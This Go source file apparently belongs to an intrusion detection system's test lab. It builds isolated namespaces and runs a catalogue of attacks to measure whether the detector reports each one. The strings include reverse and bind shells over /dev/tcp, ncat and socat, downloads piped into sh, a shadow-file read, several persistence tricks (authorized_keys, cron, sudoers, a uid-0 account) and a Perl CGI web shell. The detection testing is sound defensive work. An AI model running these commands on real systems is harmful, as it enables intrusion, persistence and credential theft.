package lab

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"text/tabwriter"
	"time"

	"github.com/vigil-ids/vigil/internal/event"
)

// The attacks lab: a service host (Debian's apache2 with a CGI handler,
// its own PID, mount and network namespaces, its agent with the event
// programs, a network sensor on its link) and an attacker host, joined by
// a veth pair; a monitor running the host and gateway packs. It runs a
// quiet baseline of ordinary administration, which must raise nothing,
// then a catalogue of attack behaviours with real tools, and says for each
// whether Vigil reported it, with which rule and how fast.

// Behaviour is one entry of the catalogue.
type Behaviour struct {
	ID    string `json:"id"`
	Title string `json:"title"`
	// Class is the ATT&CK tactic it belongs to.
	Class string `json:"class"`
	// Falco says whether Falco's default rules (the stable set of
	// falcosecurity/rules, rules/falco_rules.yaml) claim it on a host,
	// outside containers: Run shell untrusted (a shell below a web
	// server), Read sensitive file untrusted, Clear Log Activities,
	// Fileless execution via memfd_create, Execution from /dev/shm,
	// PTRACE attached to process. Their netcat and redirected-stdin rules
	// are for containers only.
	Falco bool `json:"falco_default_rules"`
	// Listen, when set, runs in the attacker's namespace, in the
	// background, before the behaviour (a listener for a reverse shell).
	Listen string `json:"-"`
	// Service runs inside the service host (as root); Attacker runs in the
	// attacker's namespace. Either or both.
	Service  string `json:"-"`
	Attacker string `json:"-"`
	// Expect lists the rules (the reports' model) any of which reports it.
	Expect []string `json:"expect"`
	// Needs lists programs without which it is skipped.
	Needs []string `json:"-"`
	// Writes lists the directories it writes in, each of which must be
	// the service host's own (a mount of the lab), else it is skipped:
	// nothing of the machine outside the lab is touched.
	Writes []string `json:"-"`
	// Kernel lists files without which the kernel cannot host it (no
	// /proc/modules: no loadable modules, and no call to load one): it is
	// then skipped.
	Kernel []string `json:"-"`
}

// BehaviourResult is what Vigil made of one behaviour.
type BehaviourResult struct {
	Behaviour
	Caught bool `json:"caught"`
	// Rule is the first expected rule that reported it; Seconds how long
	// after the behaviour started its report was there.
	Rule    string  `json:"rule,omitempty"`
	Seconds float64 `json:"seconds,omitempty"`
	// Report is that report's text.
	Report string `json:"report,omitempty"`
	// Others are the other rules that reported during the behaviour.
	Others  []string `json:"others,omitempty"`
	Skipped string   `json:"skipped,omitempty"`
	Error   string   `json:"error,omitempty"`
	// Start and End bound the behaviour and the wait for its report.
	Start time.Time `json:"start"`
	End   time.Time `json:"end"`
}

// AttacksResult is the outcome of a run.
type AttacksResult struct {
	Start     time.Time         `json:"start"`
	End       time.Time         `json:"end"`
	Dashboard string            `json:"dashboard"`
	Baseline  []string          `json:"baseline_reports"` // reports during the baseline: must be none
	Results   []BehaviourResult `json:"behaviours"`
	Caught    int               `json:"caught"`
	Tried     int               `json:"tried"`
	// FalcoClaimed and FalcoCaught count the behaviours Falco's default
	// rules claim, and of those the ones Vigil reported.
	FalcoClaimed int `json:"falco_claimed"`
	FalcoCaught  int `json:"falco_caught"`
}

// Passed says whether the run met its bar: every behaviour tried was
// reported, and the baseline raised nothing.
func (r *AttacksResult) Passed() bool {
	return r.Caught == r.Tried && len(r.Baseline) == 0
}

const (
	svcIP = "10.30.0.1"
	atkIP = "10.30.0.2"
)

// catalogue is the attack behaviours, run in this order.
func catalogue() []Behaviour {
	web := func(cmd string) string {
		return fmt.Sprintf("curl -s -m 10 'http://%s/cgi-bin/app.cgi?%s' >/dev/null", svcIP, url.Values{"q": {cmd}}.Encode())
	}
	return []Behaviour{
		{ID: "web-shell-command", Title: "web shell runs a one-liner", Class: "execution", Falco: true,
			Attacker: web("id; uname -a"), Expect: []string{"web-server-spawns-shell"}, Needs: []string{"curl"}},
		{ID: "web-reverse-shell", Title: "detached reverse shell from the web application", Class: "execution", Falco: true,
			Listen: "printf 'id\\nexit\\n' | timeout 15 ncat -l -p 4444", Needs: []string{"curl", "ncat"},
			Attacker: web(fmt.Sprintf("setsid bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1' >/dev/null 2>&1 &", atkIP)),
			Expect:   []string{"shell-on-socket", "web-server-spawns-shell", "reverse-shell"}},
		{ID: "user-reverse-shell", Title: "reverse shell of an ordinary user", Class: "execution", Falco: false,
			Listen: "printf 'id\\nexit\\n' | timeout 15 ncat -l -p 4445", Needs: []string{"ncat", "setpriv"},
			Service: fmt.Sprintf("timeout 10 setpriv --reuid=65534 --regid=65534 --clear-groups bash -c 'bash -i >& /dev/tcp/%s/4445 0>&1' </dev/null >/dev/null 2>&1 || true", atkIP),
			Expect:  []string{"shell-on-socket", "reverse-shell"}},
		{ID: "ncat-bind-shell", Title: "ncat -e /bin/sh bind shell", Class: "execution",
			Service:  "(timeout 15 ncat -l -p 5555 -e /bin/sh >/dev/null 2>&1 &) ; sleep 0.5",
			Attacker: fmt.Sprintf("(printf 'id\\n'; sleep 1; printf 'exit\\n') | timeout 5 ncat %s 5555 >/dev/null || true", svcIP), Needs: []string{"ncat"},
			Expect: []string{"shell-from-netcat", "shell-on-socket", "bind-shell"}},
		{ID: "socat-reverse-shell", Title: "socat reverse shell", Class: "execution",
			Listen: "printf 'id\\nexit\\n' | timeout 15 ncat -l -p 4446", Needs: []string{"socat", "ncat"},
			Service: fmt.Sprintf("timeout 10 socat TCP:%s:4446 EXEC:/bin/sh >/dev/null 2>&1 || true", atkIP),
			Expect:  []string{"shell-from-netcat", "shell-on-socket", "reverse-shell"}},
		{ID: "curl-pipe-sh", Title: "script from a web server piped into sh", Class: "execution", Needs: []string{"curl"},
			Service: fmt.Sprintf("curl -s -m 5 http://%s/install.sh | sh >/dev/null", svcIP), Expect: []string{"interpreter-runs-download"}},
		// The shell is started first and waits on the pipe: the join is
		// made on curl's exec.
		{ID: "curl-pipe-sh-late", Title: "download piped into a shell already waiting", Class: "execution", Needs: []string{"curl"},
			Service: fmt.Sprintf("(sleep 0.3; exec curl -s -m 5 http://%s/install.sh) | sh >/dev/null", svcIP), Expect: []string{"interpreter-runs-download"}},
		{ID: "python-fetch-pipe-sh", Title: "python3 fetching a script into sh", Class: "execution", Needs: []string{"python3"},
			Service: fmt.Sprintf(`python3 -c 'import sys, urllib.request; sys.stdout.write(urllib.request.urlopen(sys.argv[1]).read().decode())' http://%s/install.sh | sh >/dev/null`, svcIP),
			Expect:  []string{"interpreter-runs-download"}},
		{ID: "wget-pipe-python", Title: "script from a web server piped into python3", Class: "execution", Needs: []string{"wget", "python3"},
			Service: fmt.Sprintf("wget -q -O- http://%s/install.py | python3 >/dev/null", svcIP), Expect: []string{"interpreter-runs-download"}},
		{ID: "read-shadow", Title: "shadow file read by an unexpected program", Class: "credential-access", Falco: true,
			Service: "cat /etc/shadow >/dev/null", Expect: []string{"credential-file-read"}},
		{ID: "authorized-keys", Title: "key appended to authorized_keys", Class: "persistence",
			Service: "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIlab lab@attacker' >> /root/.ssh/authorized_keys",
			Writes:  []string{"/root"}, Expect: []string{"authorized-keys-modified"}},
		{ID: "cron-entry", Title: "cron entry written", Class: "persistence",
			Service: "echo '* * * * * root /dev/shm/.x' > /etc/cron.d/lab-job", Writes: []string{"/etc/cron.d"}, Expect: []string{"cron-modified"}},
		{ID: "systemd-unit", Title: "systemd unit written", Class: "persistence",
			Service: "printf '[Service]\\nExecStart=/dev/shm/.x\\n' > /etc/systemd/system/lab.service", Writes: []string{"/etc/systemd/system"}, Expect: []string{"systemd-unit-modified"}},
		{ID: "shell-rc", Title: "shell start-up file changed", Class: "persistence",
			Service: "echo '/dev/shm/.x &' >> /root/.bashrc", Writes: []string{"/root"}, Expect: []string{"shell-rc-modified"}},
		{ID: "setuid-shell", Title: "setuid copy of a shell made and used", Class: "privilege-escalation", Falco: false,
			Service: "cp /bin/bash /dev/shm/.sh && chmod u+s /dev/shm/.sh && setpriv --reuid=65534 --regid=65534 --clear-groups /dev/shm/.sh -p -c id >/dev/null", Needs: []string{"setpriv"}, Writes: []string{"/dev/shm"},
			Expect: []string{"setuid-file-made", "exec-from-writable-dir"}},
		{ID: "uid0-account", Title: "second uid-0 account added", Class: "privilege-escalation",
			Service: "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd", Writes: []string{"/etc/passwd"}, Expect: []string{"account-database-modified"}},
		{ID: "sudoers", Title: "sudoers changed", Class: "privilege-escalation", Falco: false,
			Service: "echo 'nobody ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/lab", Writes: []string{"/etc/sudoers.d"}, Expect: []string{"sudoers-modified"}},
		{ID: "clear-history", Title: "shell history cleared", Class: "defense-evasion", Falco: false,
			Service: "echo ls > /root/.bash_history && : > /root/.bash_history", Writes: []string{"/root"}, Expect: []string{"history-cleared"}},
		{ID: "clear-log", Title: "a log cleared", Class: "defense-evasion", Falco: true,
			Service: "echo entry > /var/log/auth.log && truncate -s 0 /var/log/auth.log", Writes: []string{"/var/log"}, Expect: []string{"log-cleared"}},
		{ID: "memfd-exec", Title: "program run from memory (memfd_create)", Class: "defense-evasion", Falco: true, Needs: []string{"python3"},
			Service: `python3 -c 'import os; fd=os.memfd_create("x"); os.write(fd, open("/bin/true","rb").read()); os.execv("/proc/self/fd/%d" % fd, ["x"])'`,
			Expect:  []string{"memfd-exec"}},
		{ID: "exec-dev-shm", Title: "program run from /dev/shm", Class: "defense-evasion", Falco: true,
			Service: "cp /bin/true /dev/shm/.t && /dev/shm/.t", Writes: []string{"/dev/shm"}, Expect: []string{"exec-from-writable-dir"}},
		{ID: "exec-deleted", Title: "program run from a file already deleted", Class: "defense-evasion", Needs: []string{"python3"}, Writes: []string{"/dev/shm"},
			Service: `cp /bin/true /dev/shm/.d && python3 -c 'import os; fd=os.open("/dev/shm/.d", os.O_RDONLY); os.unlink("/dev/shm/.d"); os.execv("/proc/self/fd/%d" % fd, ["d"])'`,
			Expect:  []string{"deleted-program-runs"}},
		{ID: "module-load", Title: "kernel module load asked for", Class: "persistence", Needs: []string{"python3"}, Kernel: []string{"/proc/modules"},
			// A few bytes that are no module: the kernel refuses them, and
			// nothing is loaded.
			Service: `python3 -c 'import ctypes; l=ctypes.CDLL(None, use_errno=True); b=b"\x7fELF-not-a-module"; l.syscall(175, b, len(b), b"")' || true`,
			Expect:  []string{"kernel-module-loaded"}},
		{ID: "bpf-load", Title: "BPF program loaded", Class: "defense-evasion", Needs: []string{"python3"},
			// A socket filter that accepts nothing, attached to nothing:
			// it is freed when the program ends.
			Service: `python3 -c 'import ctypes,struct; l=ctypes.CDLL(None,use_errno=True); i=ctypes.create_string_buffer(b"\xb7"+bytes(7)+b"\x95"+bytes(7),16); g=ctypes.create_string_buffer(b"GPL"); a=ctypes.create_string_buffer(struct.pack("IIQQIIQII16s",1,2,ctypes.addressof(i),ctypes.addressof(g),0,0,0,0,0,b"lab_probe"),128); l.syscall(321,5,a,128)' || true`,
			Expect:  []string{"bpf-program-loaded"}},
		{ID: "ptrace-attach", Title: "ptrace attach to another process", Class: "defense-evasion", Falco: true, Needs: []string{"python3"},
			Service: `sleep 5 & python3 -c 'import ctypes,sys,os; l=ctypes.CDLL(None,use_errno=True); p=int(sys.argv[1]); l.ptrace(16,p,0,0); os.waitpid(p,0); l.ptrace(17,p,0,0)' $!; kill $! 2>/dev/null; true`,
			Expect:  []string{"ptrace-attach"}},
		{ID: "web-shell-download", Title: "web shell fetches a tool", Class: "command-and-control", Falco: true,
			Listen:   "printf 'HTTP/1.0 200 OK\\r\\n\\r\\necho hi\\n' | timeout 15 ncat -l -p 8001",
			Attacker: web(fmt.Sprintf("curl -s -m 5 http://%s:8001/x -o /dev/shm/x", atkIP)), Needs: []string{"curl", "ncat"}, Writes: []string{"/dev/shm"},
			Expect: []string{"service-shell-runs-download-tool", "shell-runs-download-tool"}},
		{ID: "discovery-on-server", Title: "network scanner run on a server", Class: "discovery", Needs: []string{"nmap"},
			Service: fmt.Sprintf("nmap -sT -n -Pn -p 1-20 %s >/dev/null 2>&1 || true", atkIP), Expect: []string{"discovery-tool-on-server"}},
		{ID: "cpu-burn", Title: "a process holds a core", Class: "impact",
			Service: "timeout 20 sh -c 'while :; do :; done' >/dev/null 2>&1 &", Expect: []string{"sustained-cpu-burn"}},
		{ID: "stratum", Title: "miner stand-in speaks stratum", Class: "impact", Needs: []string{"ncat"},
			Listen:  `printf '{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"]],"08000002",4],"error":null}\n' | timeout 15 ncat -l -p 3333`,
			Service: fmt.Sprintf(`printf '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n' | timeout 5 ncat %s 3333 >/dev/null || true`, atkIP),
			Expect:  []string{"mining-protocol"}},
		{ID: "port-scan", Title: "port scan of the server", Class: "discovery", Needs: []string{"nmap"},
			Attacker: fmt.Sprintf("nmap -sS -T4 -n -Pn -p 1-1000 %s >/dev/null", svcIP), Expect: []string{"tcp-port-scan", "stealth-scan"}},
	}
}

// baseline is ordinary administration on the service host.
const baseline = `set +e
for i in $(seq 1 ${ROUNDS:-5}); do
  dpkg-query -W -f='${Package}\n' >/dev/null 2>&1
  ls -l /etc >/dev/null; ps aux >/dev/null; df -h >/dev/null; uptime >/dev/null
  cat /etc/hostname /etc/os-release >/dev/null 2>&1
  grep -c . /etc/passwd >/dev/null
  sh -c 'date; id' >/dev/null
  tar -czf /dev/shm/etc-backup.tgz -C /etc hostname >/dev/null 2>&1
  gzip -c /etc/os-release > /var/log/os-release.1.gz
  sleep 1
done
`

// baselineWeb is ordinary web traffic from the attacker's side.
// (a page a second, the application every other second).
var baselineWeb = fmt.Sprintf("for i in $(seq 1 ${ROUNDS:-5}0); do curl -s -m 5 http://%s/ >/dev/null; [ $((i %% 2)) = 0 ] && curl -s -m 5 'http://%s/cgi-bin/app.cgi' >/dev/null; sleep 1; done", svcIP, svcIP)

// attacksLab is one run of the attacks lab.
type attacksLab struct {
	*lab
	n       int // the run's number in the management subnet
	svcInit int // pid of the service host's first process
}

// RunAttacks builds the attacks lab, runs the baseline and the catalogue
// (or the behaviours named in only) and tears everything down.
func RunAttacks(ctx context.Context, o Options, only []string) (*AttacksResult, error) {
	if err := CheckAttacks(); err != nil {
		return nil, err
	}
	if o.Progress == nil {
		o.Progress = os.Stderr
	}
	if err := prepareDir(o.Dir); err != nil {
		return nil, err
	}
	l := &attacksLab{lab: newLab(o, "va")}
	l.n = l.id%200 + 20
	defer l.cleanup()
	if err := l.build(ctx); err != nil {
		return nil, err
	}
	res := &AttacksResult{Start: time.Now().UTC(), Dashboard: l.dashboard()}
	if o.OnUp != nil {
		o.OnUp(l.dashboard())
	}
	if err := l.runBaseline(ctx, res); err != nil {
		return nil, err
	}
	want := map[string]bool{}
	for _, id := range only {
		want[id] = true
	}
	for _, b := range catalogue() {
		if len(want) > 0 && !want[b.ID] {
			continue
		}
		r := l.try(ctx, b)
		if ctx.Err() != nil {
			return nil, ctx.Err()
		}
		res.Results = append(res.Results, r)
		if r.Skipped != "" {
			continue
		}
		if o.Record != "" {
			if err := l.record(ctx, r); err != nil {
				return nil, err
			}
		}
		res.Tried++
		if b.Falco {
			res.FalcoClaimed++
		}
		if r.Caught {
			res.Caught++
			if b.Falco {
				res.FalcoCaught++
			}
		}
	}
	res.End = time.Now().UTC()
	return res, nil
}

// CheckAttacks says why the attacks lab cannot run here, if it cannot:
// it needs root and the programs of its service host. A behaviour whose
// own tools are missing is skipped, not refused.
func CheckAttacks() error {
	if os.Geteuid() != 0 {
		return errors.New("the lab needs root: it creates network, PID and mount namespaces")
	}
	var missing []string
	for tool, pkg := range map[string]string{"ip": "iproute2", "apache2": "apache2", "unshare": "util-linux", "nsenter": "util-linux",
		"findmnt": "util-linux", "curl": "curl", "perl": "perl-base"} {
		if _, err := lookPath(tool); err != nil {
			missing = append(missing, fmt.Sprintf("%s (Debian package %s)", tool, pkg))
		}
	}
	if _, err := os.Stat("/usr/lib/apache2/modules/mod_cgi.so"); err != nil {
		missing = append(missing, "Apache's mod_cgi (Debian package apache2)")
	}
	if len(missing) > 0 {
		sort.Strings(missing)
		return fmt.Errorf("the attacks lab needs %s", strings.Join(missing, ", "))
	}
	return nil
}

func (l *attacksLab) dashboard() string { return fmt.Sprintf("http://10.%d.251.2:8080", l.n) }

// build makes the namespaces, the link, the monitor, the service host
// and its sensors.
func (l *attacksLab) build(ctx context.Context) error {
	if err := l.addNamespaces([]string{"svc", "atk"}...); err != nil {
		return err
	}
	sv, av, mh, ms := l.tag+"s", l.tag+"a", l.tag+"m", l.tag+"n"
	steps := [][]string{
		{"ip", "link", "add", sv, "type", "veth", "peer", "name", av},
		{"ip", "link", "set", sv, "netns", l.ns("svc")},
		{"ip", "link", "set", av, "netns", l.ns("atk")},
		{"ip", "-n", l.ns("svc"), "addr", "add", svcIP + "/24", "dev", sv},
		{"ip", "-n", l.ns("svc"), "link", "set", sv, "up"},
		{"ip", "-n", l.ns("atk"), "addr", "add", atkIP + "/24", "dev", av},
		{"ip", "-n", l.ns("atk"), "link", "set", av, "up"},
		// The management link: the dashboard, from this namespace.
		{"ip", "link", "add", mh, "type", "veth", "peer", "name", ms},
		{"ip", "link", "set", ms, "netns", l.ns("svc")},
		{"ip", "addr", "add", fmt.Sprintf("10.%d.251.1/30", l.n), "dev", mh},
		{"ip", "link", "set", mh, "up"},
		{"ip", "-n", l.ns("svc"), "addr", "add", fmt.Sprintf("10.%d.251.2/30", l.n), "dev", ms},
		{"ip", "-n", l.ns("svc"), "link", "set", ms, "up"},
	}
	l.links = append(l.links, mh)
	for _, s := range steps {
		if err := l.sh(s...); err != nil {
			return err
		}
	}
	cfg := filepath.Join(l.o.Dir, "attacks-lab.yaml")
	if err := os.WriteFile(cfg, []byte(attacksMonitorConfig), 0o644); err != nil {
		return err
	}
	data := filepath.Join(l.o.Dir, "data")
	pw, err := labAccount(l.o.Vigil, data, l.o.Dir)
	if err != nil {
		return err
	}
	if _, err := l.start("svc", "monitor", l.o.Vigil, "up", "--config", cfg, "--no-agent", "--data", data,
		"--bus-listen", "127.0.0.1:4222", "--listen", fmt.Sprintf("10.%d.251.2:8080", l.n), "--log-level", "warn"); err != nil {
		return err
	}
	if err := waitHTTP(l.dashboard()+"/healthz", monitorStartLimit); err != nil {
		return l.notUp("monitor", err)
	}
	if err := dashboardLogin(l.dashboard(), pw); err != nil {
		return err
	}
	identity := filepath.Join(data, "bus", "sensor.json")
	if _, err := l.start("svc", "netsensor", l.o.Vigil, "netsensor", "--iface", sv, "--bus", "nats://127.0.0.1:4222",
		"--bus-identity", identity, "--id", "svc-link", "--services", svcIP+":80/tcp", "--spool-dir", filepath.Join(l.o.Dir, "netsensor-spool"), "--log-level", "warn"); err != nil {
		return err
	}
	host := filepath.Join(l.o.Dir, "svc")
	for _, d := range labMounts {
		if l.o.Dir == d || strings.HasPrefix(l.o.Dir, d+"/") || strings.HasPrefix(l.o.Vigil, d+"/") {
			return fmt.Errorf("the lab's directory and the vigil binary must not be under %s, which the service host mounts afresh", d)
		}
	}
	// The web root is readable by the user Apache's workers run as (the
	// lab's directory may not be).
	www, err := os.MkdirTemp("", "vigil-lab-www-")
	if err != nil {
		return err
	}
	l.www = www
	if err := writeServiceHost(host, www); err != nil {
		return err
	}
	script := fmt.Sprintf(`set -e
# This host's own files, so that what the behaviours write stays here:
# /etc as an overlay whose changes land in a tmpfs, and tmpfs mounts over
# the other directories written in (those that do not exist here are not
# made: the behaviours that would write there are skipped). Every lab
# mount is named "lab".
mount --make-rprivate /
mkdir -p %[1]s/ovl && mount -t tmpfs lab %[1]s/ovl && mkdir %[1]s/ovl/up %[1]s/ovl/work
mount -t overlay lab -o lowerdir=/etc,upperdir=%[1]s/ovl/up,workdir=%[1]s/ovl/work /etc
mkdir -p /etc/cron.d /etc/systemd/system /etc/sudoers.d
for d in /root /dev/shm /var/log /var/spool/cron; do
  if [ -d "$d" ]; then mount -t tmpfs -o mode=0755 lab "$d"; fi
done
chmod 1777 /dev/shm
apache2 -f %[1]s/apache2.conf -DFOREGROUND &
exec %[2]s agent --bus nats://127.0.0.1:4222 --bus-identity %[3]s --host-id svc --interval 1s --window 3 \
  --spool-dir %[1]s/spool --log-level warn %[4]s`, host, l.o.Vigil, identity, agentLabFlags)
	cmd, err := l.start("svc", "svc", "unshare", "--pid", "--mount", "--fork", "--mount-proc", "sh", "-c", script)
	if err != nil {
		return err
	}
	if l.svcInit, err = firstChild(cmd.Process.Pid, 10*time.Second); err != nil {
		return fmt.Errorf("the service host did not start (see %s): %w", filepath.Join(l.o.Dir, "svc.log"), err)
	}
	if err := waitHTTPIn(l.lab, "atk", fmt.Sprintf("http://%s/cgi-bin/app.cgi", svcIP), 30*time.Second); err != nil {
		return fmt.Errorf("the service host's web server (see %s): %w", filepath.Join(host, "error.log"), err)
	}
	// Let the sensors settle: the agent's first samples, the event
	// programs loaded.
	return sleep(ctx, 5*time.Second)
}

// labMounts are the directories the service host mounts afresh.
var labMounts = []string{"/etc", "/root", "/dev/shm", "/var/log", "/var/spool/cron"}

// agentLabFlags turn on what the attacks need of the agent: the event
// programs, and a CPU level a burner reaches even on a machine whose other
// work takes most of a core (the default is 90% for 1m).
const agentLabFlags = "--events --cpu-level 30 --cpu-level-for 5s"

// firstChild waits for the first child of pid (unshare --fork's child,
// the PID namespace's first process).
func firstChild(pid int, limit time.Duration) (int, error) {
	deadline := time.Now().Add(limit)
	for {
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/task/%d/children", pid, pid))
		if err == nil {
			if f := strings.Fields(string(b)); len(f) > 0 {
				return strconv.Atoi(f[0])
			}
		}
		if time.Now().After(deadline) {
			return 0, fmt.Errorf("process %d has no child after %v", pid, limit)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// inService runs a shell script inside the service host's namespaces.
func (l *attacksLab) inService(ctx context.Context, script string) error {
	return l.run(ctx, "nsenter", "-t", strconv.Itoa(l.svcInit), "-p", "-m", "-n", "--", "sh", "-c", script)
}

// inAttacker runs a shell script in the attacker's namespace.
func (l *attacksLab) inAttacker(ctx context.Context, script string) error {
	return l.run(ctx, "ip", "netns", "exec", l.ns("atk"), "sh", "-c", script)
}

func (l *attacksLab) run(ctx context.Context, args ...string) error {
	path, err := lookPath(args[0])
	if err != nil {
		return err
	}
	cctx, cancel := context.WithTimeout(ctx, 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(cctx, path, args[1:]...)
	cmd.Env = append(os.Environ(), "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root")
	out, err := cmd.CombinedOutput()
	if err != nil {
		return fmt.Errorf("%w: %s", err, strings.TrimSpace(string(out)))
	}
	return nil
}

// runBaseline runs ordinary administration and web traffic and keeps
// every report raised meanwhile.
func (l *attacksLab) runBaseline(ctx context.Context, res *AttacksResult) error {
	from := time.Now().UTC()
	l.say("baseline: ordinary administration and web traffic")
	rounds := 5
	if l.o.Fast {
		rounds = 2
	}
	errc := make(chan error, 1)
	go func() { errc <- l.inAttacker(ctx, fmt.Sprintf("ROUNDS=%d; %s", rounds, baselineWeb)) }()
	if err := l.inService(ctx, fmt.Sprintf("ROUNDS=%d; %s", rounds, baseline)); err != nil {
		return fmt.Errorf("baseline: %w", err)
	}
	if err := <-errc; err != nil {
		return fmt.Errorf("baseline web traffic: %w", err)
	}
	if err := sleep(ctx, 5*time.Second); err != nil {
		return err
	}
	reps, err := l.reports(ctx, from)
	if err != nil {
		return err
	}
	for _, r := range reps {
		res.Baseline = append(res.Baseline, r.Model+": "+r.Explanation)
	}
	l.say("baseline: %d reports", len(res.Baseline))
	return nil
}

// reports are the signature reports since from, oldest first.
func (l *attacksLab) reports(ctx context.Context, from time.Time) ([]event.Report, error) {
	var reps []event.Report
	u := fmt.Sprintf("%s/api/reports?engine=signatures&limit=10000&since=%s", l.dashboard(), url.QueryEscape(from.Format(time.RFC3339Nano)))
	if err := getJSON(ctx, u, &reps); err != nil {
		return nil, err
	}
	sort.SliceStable(reps, func(i, j int) bool { return reps[i].Time.Before(reps[j].Time) })
	return reps, nil
}

// try runs one behaviour and waits up to 10 s for its report.
func (l *attacksLab) try(ctx context.Context, b Behaviour) BehaviourResult {
	r := BehaviourResult{Behaviour: b}
	for _, tool := range b.Needs {
		if _, err := lookPath(tool); err != nil {
			r.Skipped = tool + " not installed"
			l.say("%-22s skipped: %s", b.ID, r.Skipped)
			return r
		}
	}
	for _, f := range b.Kernel {
		if _, err := os.Stat(f); err != nil {
			r.Skipped = "this kernel has no " + f
			l.say("%-22s skipped: %s", b.ID, r.Skipped)
			return r
		}
	}
	// The topmost of the mounts that hold d must be one of the lab's.
	for _, d := range b.Writes {
		if err := l.inService(ctx, `[ "$(findmnt -n -o SOURCE --target `+d+` | tail -n 1)" = lab ]`); err != nil {
			r.Skipped = d + " is not the service host's own on this machine"
			l.say("%-22s skipped: %s", b.ID, r.Skipped)
			return r
		}
	}
	from := time.Now().UTC()
	r.Start = from
	// The behaviour's reports carry its events' times: a little before
	// its start counts (clocks of the sensors' samples).
	since := from.Add(-100 * time.Millisecond)
	if b.Listen != "" {
		go func() { _ = l.inAttacker(ctx, b.Listen) }()
		time.Sleep(300 * time.Millisecond)
	}
	var errs []string
	if b.Service != "" {
		if err := l.inService(ctx, b.Service); err != nil {
			errs = append(errs, "service: "+err.Error())
		}
	}
	if b.Attacker != "" {
		if err := l.inAttacker(ctx, b.Attacker); err != nil {
			errs = append(errs, "attacker: "+err.Error())
		}
	}
	r.Error = strings.Join(errs, "; ")
	deadline := time.Now().Add(10 * time.Second)
	if b.ID == "cpu-burn" {
		deadline = time.Now().Add(20 * time.Second)
	}
	for {
		reps, err := l.reports(ctx, since)
		if err == nil {
			others := map[string]bool{}
			for _, rep := range reps {
				if !r.Caught && contains(b.Expect, rep.Model) {
					r.Caught, r.Rule, r.Report = true, rep.Model, rep.Explanation
					r.Seconds = time.Since(from).Seconds()
				} else if !contains(b.Expect, rep.Model) {
					others[rep.Model] = true
				}
			}
			r.Others = r.Others[:0]
			for m := range others {
				r.Others = append(r.Others, m)
			}
			sort.Strings(r.Others)
		}
		if r.Caught || time.Now().After(deadline) || ctx.Err() != nil {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	r.End = time.Now().UTC()
	verdict := "MISSED"
	if r.Caught {
		verdict = fmt.Sprintf("reported by %s in %.1fs", r.Rule, r.Seconds)
	}
	l.say("%-22s %s", b.ID, verdict)
	// Let what the behaviour started end before the next one.
	_ = sleep(ctx, time.Second)
	return r
}

// record writes the service host's events during a behaviour (and the
// wait for its report) to Record/<behaviour>/events.jsonl, oldest first.
func (l *attacksLab) record(ctx context.Context, r BehaviourResult) error {
	var raw []json.RawMessage
	u := fmt.Sprintf("%s/api/events?host=svc&limit=10000&since=%s&until=%s", l.dashboard(),
		url.QueryEscape(r.Start.Add(-100*time.Millisecond).Format(time.RFC3339Nano)), url.QueryEscape(r.End.Format(time.RFC3339Nano)))
	if err := getJSON(ctx, u, &raw); err != nil {
		return err
	}
	slices.Reverse(raw)
	dir := filepath.Join(l.o.Record, r.ID)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	var b bytes.Buffer
	for _, m := range raw {
		b.Write(m)
		b.WriteByte('\n')
	}
	return os.WriteFile(filepath.Join(dir, "events.jsonl"), b.Bytes(), 0o644)
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// writeServiceHost writes the service host's web server: a prefork Apache
// on port 80 serving a page, scripts to install (install.sh, install.py) and a CGI application that runs the shell
// command in its q parameter (the web shell an intruder leaves), readable
// by the user its workers run as.
func writeServiceHost(dir, docs string) error {
	www, cgi := filepath.Join(docs, "www"), filepath.Join(docs, "cgi-bin")
	for _, d := range []string{dir, docs, www, cgi, filepath.Join(dir, "spool")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			return err
		}
		if err := os.Chmod(d, 0o755); err != nil {
			return err
		}
	}
	if err := os.WriteFile(filepath.Join(www, "index.html"), []byte("<html><body><p>service host</p></body></html>\n"), 0o644); err != nil {
		return err
	}
	// A script of the kind sites tell their users to pipe into a shell.
	if err := os.WriteFile(filepath.Join(www, "install.sh"), []byte("#!/bin/sh\necho installing\nid\n"), 0o644); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(www, "install.py"), []byte("import os\nprint('installing', os.getuid())\n"), 0o644); err != nil {
		return err
	}
	// The application: a page, or with ?q= the web shell an intruder
	// left, which replaces itself with sh -c q.
	app := `#!/usr/bin/perl
print "Content-Type: text/plain\r\n\r\n";
my $q = $ENV{QUERY_STRING} // "";
if ($q =~ s/^q=//) {
  $q =~ tr/+/ /;
  $q =~ s/%([0-9A-Fa-f]{2})/chr(hex($1))/ge;
  $| = 1;
  exec("/bin/sh", "-c", $q);
}
print "service host\n";
`
	if err := os.WriteFile(filepath.Join(cgi, "app.cgi"), []byte(app), 0o755); err != nil {
		return err
	}
	conf := apacheConfig(dir, "svc", 80, "alias", "cgi") + fmt.Sprintf(`DocumentRoot %[1]s/www
DirectoryIndex index.html
ScriptAlias /cgi-bin/ %[1]s/cgi-bin/
StartServers 2
MinSpareServers 1
MaxSpareServers 4
`, docs)
	return os.WriteFile(filepath.Join(dir, "apache2.conf"), []byte(conf), 0o644)
}

// attacksMonitorConfig is the service host's monitor: the host and
// gateway packs, nothing held back (each behaviour is judged alone).
const attacksMonitorConfig = `monitor: {name: attacks-lab, layer: service}
sources:
  - name: observations
    subjects: ["vigil.obs.>"]
    delivery: durable
engines:
  - kind: signature
    name: signatures
    rules: ["builtin:host.yaml", "builtin:gateway.yaml"]
    suppress: 0s
resolver: {publish: true, min_severity: green}
`

